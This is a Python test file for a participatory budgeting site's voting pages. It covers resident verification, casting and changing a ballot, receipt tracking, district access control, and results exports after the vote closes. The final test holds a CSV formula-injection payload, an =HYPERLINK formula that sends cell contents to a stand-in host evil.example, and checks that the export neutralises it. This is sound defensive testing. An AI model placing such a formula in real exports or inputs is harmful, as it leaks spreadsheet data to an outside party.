"""The residents' voting pages through the test client: verify, fill in, check, submit, change, results."""

from __future__ import annotations

import datetime as dt
import re

import sqlalchemy as sa

from pb.tally import pabulib
from pb.voting import services
from pb.voting.ballot_rules import Choice
from pb.voting.models import CountedBallot, Participation
from pb.voting.secrecy import receipt_hash


def form_token(html: str) -> str:
    return re.search(r'name="form_token" type="hidden" value="([^"]+)"', html).group(1)


def test_verify_by_register_then_by_code(client, login, db, voting_world, make_user):
    w = voting_world
    login(w.other)
    page = client.get("/m/testville/vote/verify")
    assert "With your register reference" in page.get_data(as_text=True)
    refused = client.post("/m/testville/vote/verify", data={"match-reference": "AB-1002", "match-birth_year": "1900"})
    assert refused.status_code == 422 and "No resident in the register matches" in refused.get_data(as_text=True)
    done = client.post("/m/testville/vote/verify", data={"match-reference": "ab 1002", "match-birth_year": "1975"})
    assert done.status_code == 302 and done.headers["Location"].endswith("/m/testville/vote/vote")
    letters = services.issue_codes(w.clerk, w.process, ["AB-1005"])
    db.session.commit()
    third = make_user()
    client.post("/logout")
    login(third)
    bad = client.post("/m/testville/vote/verify", data={"code-code": "NOPE-NOPE-NOPE"})
    assert "This voting code is not valid" in bad.get_data(as_text=True)
    good = client.post("/m/testville/vote/verify", data={"code-code": letters[0].code})
    assert good.status_code == 302


def test_ballot_check_explains_then_submit_change_and_receipt(client, login, db, voting_world):
    w = voting_world
    login(w.resident)
    overview = client.get("/m/testville/vote/vote").get_data(as_text=True)
    assert "Fill in the ballot" in overview
    page = client.get(f"/pools/{w.city.id}/ballot").get_data(as_text=True)
    token = form_token(page)
    too_much = {"form_token": token, "project": [str(w.projects[0].id), str(w.projects[1].id), str(w.projects[3].id)]}
    checked = client.post(f"/pools/{w.city.id}/ballot", data={**too_much, "action": "check"})
    text = checked.get_data(as_text=True)
    assert checked.status_code == 422 and "more than the pool" in text and "€120,000.00" in text
    cast = client.post(f"/pools/{w.city.id}/ballot", data={**too_much, "action": "cast"})
    assert cast.status_code == 422
    ok = {"form_token": token, "project": [str(w.projects[0].id), str(w.projects[1].id)], "action": "cast"}
    done = client.post(f"/pools/{w.city.id}/ballot", data=ok)
    assert done.status_code == 302 and "/receipt" in done.headers["Location"]
    assert "receipt" not in done.headers["Location"].split("/receipt")[1]  # no code in the address
    receipt_page = client.get(done.headers["Location"]).get_data(as_text=True)
    code = re.search(r'<code>([A-Z0-9-]+)</code>', receipt_page).group(1)
    # A second send of the same form (a lost response) gives the same code.
    again = client.post(f"/pools/{w.city.id}/ballot", data=ok)
    assert code in client.get(again.headers["Location"]).get_data(as_text=True)
    # Change: a fresh form, other choices.
    page = client.get(f"/pools/{w.city.id}/ballot?change=1").get_data(as_text=True)
    assert "checked" not in page  # the new ballot starts empty
    based_on = re.search(r'name="based_on" type="hidden" value="([^"]*)"', page).group(1)
    changed = client.post(f"/pools/{w.city.id}/ballot", data={"form_token": form_token(page), "action": "cast",
                                                              "based_on": based_on,
                                                              "project": [str(w.projects[4].id)]})
    changed_page = client.get(changed.headers["Location"]).get_data(as_text=True)
    assert "Your ballot is changed" in changed_page
    assert db.session.scalar(sa.select(sa.func.count()).select_from(CountedBallot)) == 1
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Participation)) == 1
    # The old code is no longer counted; the new one is recorded.
    new_code = re.search(r'<code>([A-Z0-9-]+)</code>', changed_page).group(1)
    old = client.post("/m/testville/vote/receipts", data={"receipt_hash": receipt_hash(code)}).get_data(as_text=True)
    assert "No counted ballot has this tracking code" in old
    new = client.post("/m/testville/vote/receipts", data={"receipt_hash": receipt_hash(new_code)}).get_data(as_text=True)
    assert "This ballot is recorded" in new


def test_another_districts_pool_is_forbidden(client, login, db, voting_world, make_user):
    w = voting_world
    outsider = make_user()
    services.verify_by_register(outsider, w.process, "AB-1004", 1990)
    db.session.commit()
    login(outsider)
    assert client.get(f"/pools/{w.north.id}/ballot").status_code == 403


def test_results_and_exports_only_after_the_close(client, login, db, voting_world):
    w = voting_world
    services.cast_ballot(w.resident, w.city, [Choice(w.projects[0].id)], "t")
    db.session.commit()
    before = client.get("/m/testville/vote/results").get_data(as_text=True)
    assert "No counts are shown before then" in before and "Votes" not in before
    assert client.get(f"/pools/{w.city.id}/ballots.pb").status_code == 404
    services.close_vote(w.clerk, w.process, reason="Closing the vote for the results test.")
    db.session.commit()
    page = client.get("/m/testville/vote/results").get_data(as_text=True)
    assert "Ballots counted" in page and "Funded" in page and "What other counting rules" in page
    exported = client.get(f"/pools/{w.city.id}/ballots.pb")
    election = pabulib.parse(exported.get_data(as_text=True))
    assert election.voter_count == 1 and {p.id for p in election.projects} == {p.code for p in w.projects}
    assert election.project("C1").extra["selected"] == "1"
    assert client.get("/m/testville/vote/results.csv").get_data(as_text=True).count("\n") == 1 + 5 + 2
    data = client.get("/m/testville/vote/results.json").get_json()
    assert data["pools"][0]["results"][0]["official"] is True
    receipts = client.get("/m/testville/vote/receipts.txt").get_data(as_text=True).split()
    assert len(receipts) == 1 and len(receipts[0]) == 64


# What the pools page must not say once no ballot can be cast: an invitation to vote, verify or change.
INVITATIONS = ("until voting closes", "change your ballot", "Change my ballot", "Fill in the ballot", "Not cast yet",
               "Verify that I may vote", "To vote online", "vote on paper")


def test_after_the_close_the_pools_page_says_what_happened_and_invites_no_ballot(client, login, db, voting_world):
    w = voting_world
    services.cast_ballot(w.resident, w.city, [Choice(w.projects[0].id)], "t")
    services.close_vote(w.clerk, w.process, reason="Closing the vote for the pools page test.")
    db.session.commit()
    visitor = client.get("/m/testville/vote/vote").get_data(as_text=True)
    assert "Voting has closed" in visitor and not [text for text in INVITATIONS if text in visitor]
    login(w.other)  # signed in, never verified
    unverified = client.get("/m/testville/vote/vote").get_data(as_text=True)
    assert "Voting has closed" in unverified and not [text for text in INVITATIONS if text in unverified]
    client.post("/logout")
    login(w.resident)
    page = client.get("/m/testville/vote/vote").get_data(as_text=True)
    assert "Voting has closed" in page and not [text for text in INVITATIONS if text in page]
    assert "Ballots can no longer be cast or changed. Here is whether you voted in each of your pools." in page
    assert re.search(r"City-wide</th>\s*<td[^>]*>[^<]*</td>\s*<td>Cast \(Online\)</td>", page)
    assert re.search(r"North</th>\s*<td[^>]*>[^<]*</td>\s*<td>Not cast</td>", page)
    assert "Check that your ballot was counted" in page


def test_before_voting_opens_the_pools_page_promises_no_ballot_now(client, login, db, voting_world):
    from pb.core.db import utcnow
    from pb.processes.models import Phase, PhaseKind

    w = voting_world
    db.session.execute(sa.update(Phase).where(Phase.process_id == w.process.id, Phase.kind == PhaseKind.VOTING)
                       .values(starts_at=utcnow() + dt.timedelta(days=2)))
    db.session.commit()
    login(w.resident)
    page = client.get("/m/testville/vote/vote").get_data(as_text=True)
    assert "Voting is not open now." in page
    assert "You are verified. You can vote in these pools only while voting is open." in page
    assert "until voting closes" not in page and "Fill in the ballot" not in page and "Change my ballot" not in page


def test_results_csv_neutralises_a_title_that_looks_like_a_formula(client, db, voting_world):
    """Issue 18: a resident's title starting with "=" stayed a live formula in results.csv."""
    import csv
    import io

    from pb.voting import services as voting_services

    w = voting_world
    w.projects[0].title = '=HYPERLINK("http://evil.example/?leak="&B2,"map")'
    db.session.commit()
    voting_services.close_vote(w.clerk, w.process, reason="Closing for the formula injection test.")
    db.session.commit()
    rows = list(csv.reader(io.StringIO(client.get("/m/testville/vote/results.csv").get_data(as_text=True))))
    titles = [row[2] for row in rows[1:]]
    assert "'" + w.projects[0].title in titles and w.projects[0].title not in titles
